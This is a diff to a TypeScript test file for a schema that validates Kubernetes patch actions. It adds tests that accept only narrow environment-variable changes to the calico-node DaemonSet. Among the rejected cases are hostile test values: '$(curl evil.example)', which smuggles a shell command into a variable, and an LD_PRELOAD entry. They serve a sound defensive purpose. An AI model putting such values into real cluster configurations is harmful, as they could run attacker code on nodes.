@@ -1,4 +1,4 @@
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { clusterActionSchema } from '../cluster-action-kinds.ts';
 
 const path = '/spec/template/spec/containers/0/image';
@@ -18,7 +18,8 @@ const action = {
 };
 
 function isTaken(change: object): boolean {
-  return clusterActionSchema.safeParse({ ...action, ...change }).success;
+  // As a file has it: what is undefined is not there.
+  return clusterActionSchema.safeParse(JSON.parse(JSON.stringify({ ...action, ...change }))).success;
 }
 
 test('an action as it is planned', () => {
@@ -116,4 +117,71 @@ test('a custom resource', () => {
     name: 'web',
   };
   expect(isTaken({ id: 'object-patch:team/Rollout/web', object })).toBe(true);
+});
+
+describe('the variables of calico-node', () => {
+  const env = '/spec/template/spec/containers/0/env';
+  const place = { group: 'apps', version: 'v1', resource: 'daemonsets', kind: 'DaemonSet' };
+  const connectTime = { name: 'FELIX_BPFCONNECTTIMELOADBALANCING', value: 'Enabled' };
+  const hostNat = { name: 'FELIX_BPFHOSTNETWORKEDNATWITHOUTCTLB', value: 'Disabled' };
+  const both = [
+    { path: `${env}/7`, from: null, to: connectTime },
+    { path: `${env}/8`, from: null, to: hostNat },
+  ];
+  const variables = {
+    id: 'object-patch:kube-system/DaemonSet/calico-node',
+    object: { ...place, namespace: 'kube-system', name: 'calico-node' },
+    changes: both,
+  };
+
+  test.each<readonly [string, object]>([
+    ['both are new', {}],
+    ['the one is changed, and the other new', { changes: [{ ...both[0], from: { ...connectTime, value: 'tcp' } }] }],
+    [
+      'where the operator puts it',
+      {
+        id: 'object-patch:calico-system/DaemonSet/calico-node',
+        object: { ...variables.object, namespace: 'calico-system' },
+      },
+    ],
+  ])('are taken: %s', (_what, change) => {
+    expect(isTaken({ ...variables, ...change })).toBe(true);
+  });
+
+  const changed = (part: object): object => ({ changes: [{ ...both[0], ...part }] });
+
+  test.each<readonly [string, object]>([
+    ['another variable', changed({ to: { name: 'FELIX_BPFENABLED', value: 'Enabled' } })],
+    ['another value', changed({ to: { ...connectTime, value: 'Disabled' } })],
+    ['the value of the other one', changed({ to: { ...connectTime, value: 'TCP' } })],
+    ['a value from elsewhere', changed({ to: { name: connectTime.name, valueFrom: {} } })],
+    ['an undo to what Felix does not take', changed({ from: { ...connectTime, value: '$(curl evil.example)' } })],
+    ['an undo to another variable', changed({ from: { name: 'LD_PRELOAD', value: 'TCP' } })],
+    ['its removal', changed({ from: connectTime, to: null })],
+    ['another field', changed({ path: '/spec/template/spec/containers/0/command/0' })],
+    ['a field of an element', changed({ path: `${env}/7/value` })],
+    ['a container of its beginning', changed({ path: '/spec/template/spec/initContainers/0/env/7' })],
+    ['two containers', { changes: [both[0], { ...both[1], path: '/spec/template/spec/containers/1/env/8' }] }],
+    ['one variable twice', { changes: [both[0], { ...both[0], path: `${env}/8` }] }],
+    ['one place twice', { changes: [both[0], { ...both[1], path: `${env}/7` }] }],
+    ['a gap between them', { changes: [both[0], { ...both[1], path: `${env}/9` }] }],
+    ['an image beside them', { changes: [...both, { path, from, to }] }],
+    ['pods that start again without being told', { disrupts: undefined }],
+    ['another namespace', { ...variables, ...moved({ namespace: 'team' }) }],
+    ['another DaemonSet', { ...variables, ...moved({ name: 'kube-proxy' }) }],
+    ['another kind', { ...variables, ...moved({ kind: 'Deployment', resource: 'deployments' }) }],
+  ])('refused: %s', (_what, change) => {
+    expect(isTaken({ ...variables, ...change })).toBe(false);
+  });
+
+  function moved(part: Partial<typeof variables.object>): object {
+    const object = { ...variables.object, ...part };
+    return { id: `object-patch:${object.namespace}/${object.kind}/${object.name}`, object };
+  }
+
+  test('never the finalizers, or an image, of the same object under the same form', () => {
+    expect(isTaken({ ...variables, changes: [{ path, from, to }] })).toBe(false);
+    const finalizers = { path: '/metadata/finalizers', from: ['example.com/protected'], to: null };
+    expect(isTaken({ ...variables, disrupts: undefined, changes: [...both, finalizers] })).toBe(false);
+  });
 });
